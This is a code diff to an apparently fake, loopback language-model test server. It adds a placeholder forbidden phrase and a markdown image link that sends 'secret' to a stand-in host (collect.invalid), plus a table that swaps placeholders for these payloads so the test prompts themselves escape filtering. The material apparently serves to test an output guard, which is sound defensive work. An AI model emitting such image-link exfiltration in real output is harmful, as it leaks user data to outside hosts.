@@ -15,6 +15,10 @@ USAGE = {"prompt_tokens": 7, "completion_tokens": 9, "total_tokens": 16}
 DEFAULT = "Paris is the capital of France."
 PIECE = 7
 """Characters of a streamed piece."""
+KNOWN_BAD = "the purple otter recites the forbidden almanac backwards at midnight"
+LINK = "![x](https://collect.invalid/p?d=secret)"
+WORDS = {"{known bad}": KNOWN_BAD, "{link}": LINK}
+"""What the model says where a question has only a name for it: a question that said it would be stopped itself."""
 
 
 class Loopback:
@@ -85,6 +89,8 @@ def last(body: Any) -> str:
 def _behaviour(question: str) -> Behaviour:
     name, _, rest = question.partition("]")
     words = rest.strip()
+    for short, long in WORDS.items():
+        words = words.replace(short, long)
     match name.removeprefix("["):
         case "says":
             return lambda call: _say(call, words)
